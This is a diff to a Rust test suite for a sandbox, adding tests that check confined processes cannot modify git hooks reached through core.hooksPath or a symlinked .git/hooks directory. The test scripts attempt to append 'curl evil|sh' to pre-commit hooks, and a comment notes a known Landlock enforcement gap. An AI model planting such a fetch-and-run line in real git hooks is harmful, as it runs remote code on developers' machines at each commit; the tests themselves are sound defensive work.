@@ -12,10 +12,10 @@ mod sandbox_support;
 use std::fs;
 use std::time::Duration;
 
-use sandbox_support::judge::{confined, control, defaults, unchanged};
+use sandbox_support::judge::{confined, control, defaults, marked, unchanged};
 use sandbox_support::procs::{Reaper, survivors_after_grace};
 use sandbox_support::world::{Snapshot, q, unique};
-use sandbox_support::{Backend, World};
+use sandbox_support::{ATTEMPT, Backend, World};
 
 // ---- Protected paths inside the workspace -------------------------------------------------
 
@@ -337,3 +337,59 @@ fn git_commondir_with_killed_launcher(w: &World, b: Backend) {
     );
 }
 per_backend!(git_commondir_with_killed_launcher);
+
+/// husky and friends: `core.hooksPath = .husky` in the (protected) config makes git run the
+/// hooks in `.husky/`, an ordinary workspace directory — which must then be protected too.
+fn git_hooks_path_in_workspace(w: &World, b: Backend) {
+    git_repo(w);
+    w.write(
+        &w.ws.join(".git/config"),
+        &format!("{GIT_CONFIG}\thooksPath = .husky\n"),
+    );
+    let hook = w.ws.join(".husky/pre-commit");
+    w.write(&hook, "#!/bin/sh\nnpx lint-staged\n");
+    unchanged(
+        w,
+        b,
+        defaults,
+        &[&hook],
+        "echo 'curl evil|sh' >> .husky/pre-commit",
+    );
+}
+per_backend!(git_hooks_path_in_workspace);
+
+/// `.git/hooks` as a symlink to a tracked directory of the workspace (a common set-up): the
+/// hooks git runs live in `githooks/`. Refusing to run (exit 125, nothing attempted) is a
+/// correct answer too; changing them is not.
+fn git_hooks_dir_symlinked(w: &World, b: Backend) {
+    git_repo(w);
+    fs::remove_dir(w.ws.join(".git/hooks")).expect("rmdir hooks");
+    let hook = w.ws.join("githooks/pre-commit");
+    w.write(&hook, "#!/bin/sh\nexit 0\n");
+    std::os::unix::fs::symlink("../githooks", w.ws.join(".git/hooks")).expect("symlink hooks");
+    let script = marked(
+        "echo 'curl evil|sh' >> .git/hooks/pre-commit; echo 'curl evil|sh' >> githooks/pre-commit",
+    );
+    let before = Snapshot::of(&hook);
+    let run = w.confined(b).sh(&script);
+    let refused = run.status_code() == Some(125) && !run.stdout.contains(ATTEMPT);
+    assert!(
+        refused || run.stdout.contains(ATTEMPT),
+        "neither refused nor run\n{run}"
+    );
+    assert_eq!(
+        before,
+        Snapshot::of(&hook),
+        "ESCAPE: the hook behind .git/hooks changed\n{run}"
+    );
+    let control = w.plain().sh(&script);
+    assert_ne!(
+        before,
+        Snapshot::of(&hook),
+        "positive control failed\n{control}"
+    );
+}
+per_backend!(
+    git_hooks_dir_symlinked,
+    landlock: "known hole: protected paths are not enforced on the Landlock-only rung (reduced, see doctor)"
+);
